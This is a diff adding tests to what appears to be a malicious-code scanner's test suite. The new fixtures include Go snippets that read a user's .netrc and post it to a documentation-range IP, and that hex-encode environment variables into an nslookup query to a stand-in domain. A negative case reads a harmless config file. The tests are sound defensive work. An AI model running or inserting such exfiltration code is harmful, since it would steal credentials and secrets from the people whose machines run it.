@@ -473,3 +473,43 @@ def test_lua_command_spelled_in_codes_through_an_alias_is_a_decoded_payload(tmp_
 def test_a_command_joined_from_plain_literals_is_not_a_payload(tmp_path: Path) -> None:
     source = 'os.execute("mkdir " .. "-p build")\nos.execute(table.concat({ "make", "all" }, " "))\n'
     assert kinds(tmp_path, "assets/plugin/build.lua", source) == set()
+
+
+def test_go_home_joined_with_a_dot_folder_names_the_store_read_and_posted(tmp_path: Path) -> None:
+    source = (
+        "package main\n\n"
+        'import ("bytes"; "net/http"; "os"; "path/filepath")\n\n'
+        "func main() {\n"
+        "\thome, _ := os.UserHomeDir()\n"
+        '\tdata, _ := os.ReadFile(filepath.Join(home, ".netrc"))\n'
+        '\thttp.Post("https://198.51.100.30/n", "text/plain", bytes.NewReader(data))\n'
+        "}\n"
+    )
+    errors = scan_errors(tmp_path, {"scripts/netrc/main.go": source})
+    assert ("CREDENTIAL_EXFILTRATION", "scripts/netrc/main.go", 8) in errors
+
+
+def test_go_environment_handed_to_nslookup_is_dns_exfiltration(tmp_path: Path) -> None:
+    source = (
+        "package main\n\n"
+        'import ("encoding/hex"; "os/exec"; "strings"; "syscall")\n\n'
+        "func main() {\n"
+        '\tlabel := hex.EncodeToString([]byte(strings.Join(syscall.Environ(), ",")))[:50]\n'
+        '\texec.Command("nslookup", label+".r.example.invalid").Run()\n'
+        "}\n"
+    )
+    assert Kind.DNS_TUNNEL in kinds(tmp_path, "scripts/resolve/main.go", source)
+
+
+def test_go_reading_its_own_config_under_home_is_no_secret(tmp_path: Path) -> None:
+    source = (
+        "package main\n\n"
+        'import ("net/http"; "os"; "path/filepath")\n\n'
+        "func main() {\n"
+        "\thome, _ := os.UserHomeDir()\n"
+        '\tcfg, _ := os.ReadFile(filepath.Join(home, ".config", "lintr", "rules.yaml"))\n'
+        '\thttp.Get("https://rules.example.invalid/latest")\n'
+        "\t_ = cfg\n"
+        "}\n"
+    )
+    assert Kind.SECRET_READ not in kinds(tmp_path, "scripts/lintr/main.go", source)
